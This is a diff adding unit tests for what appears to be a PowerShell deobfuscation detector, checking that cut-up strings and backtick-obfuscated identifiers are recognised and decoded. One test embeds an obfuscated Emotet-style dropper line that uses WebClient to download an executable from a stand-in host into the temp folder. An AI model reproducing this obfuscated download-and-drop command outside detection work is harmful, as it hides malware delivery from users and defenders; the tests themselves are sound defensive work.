@@ -90,3 +90,26 @@ def test_char_casts_joined_by_plus() -> None:
 def test_numbers_that_spell_nothing_are_left_alone() -> None:
     assert decode("Get-Process -Id 4,8,15,16,23,42,108,815,1623,4200,8000,9001 -join ','") is None
     assert decode("$ports = 80,443,8080,8443,3389,445,139,135,22,21,25,110 ; $x -join ','") is None
+
+
+def test_cut_up_strings_and_backticks_are_glued_back() -> None:
+    """Emotet's document droppers: every name cut into quoted pieces joined by +, and
+    backticks inside identifiers."""
+    block = (
+        "$a=(('ht'+'tp:'+'//ex'+'ample.test/'+'x'));$w=&('new-'+'obje'+'c'+'t') "
+        "neT.WEbcL`IENt;$w.\"dOWnLO`ADfILe\"($a, ($env:temp+('\\'+'x.e'+'xe')))"
+    )
+    assert might_hide(block)
+    got = decode(block) or ""
+    assert "http://example.test/x" in got and "new-object" in got
+    assert "WEbcLIENt" in got and "dOWnLOADfILe" in got
+
+
+def test_a_few_joins_are_ordinary_code() -> None:
+    assert decode("Write-Host ('Total: ' + $n + ' files')") is None
+
+
+def test_a_long_ordinary_script_with_some_joins_is_left_alone() -> None:
+    line = "Write-Host ('Copied ' + $n + ' files to ' + $dest)`n\n"
+    script = line * 9 + "# " + "x" * 20000
+    assert decode(script) is None
